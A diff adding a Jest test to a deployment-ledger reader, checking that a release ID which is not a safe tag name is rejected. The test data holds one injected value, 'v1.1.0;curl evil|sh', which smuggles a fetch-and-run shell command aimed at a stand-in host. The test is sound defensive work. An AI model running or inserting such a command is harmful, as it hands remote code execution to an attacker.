@@ -65,6 +65,15 @@ describe('readLedger', () => {
     expect(ledger.knownGood?.releaseId).toBe('v1.1.0');
   });
 
+  it('never takes a release ID that is not a safe tag name from a payload', async () => {
+    const ledger = await readLedger(
+      memoryLedger([deploy('v1.0.0', ['success']), deploy('v1.1.0;curl evil|sh', ['success'])]),
+      'production',
+    );
+    expect(ledger.current?.releaseId).toBe('v1.0.0');
+    expect(ledger.knownGood?.releaseId).toBe('v1.0.0');
+  });
+
   it('skips a deployment still running or failed', async () => {
     const ledger = await readLedger(
       memoryLedger([
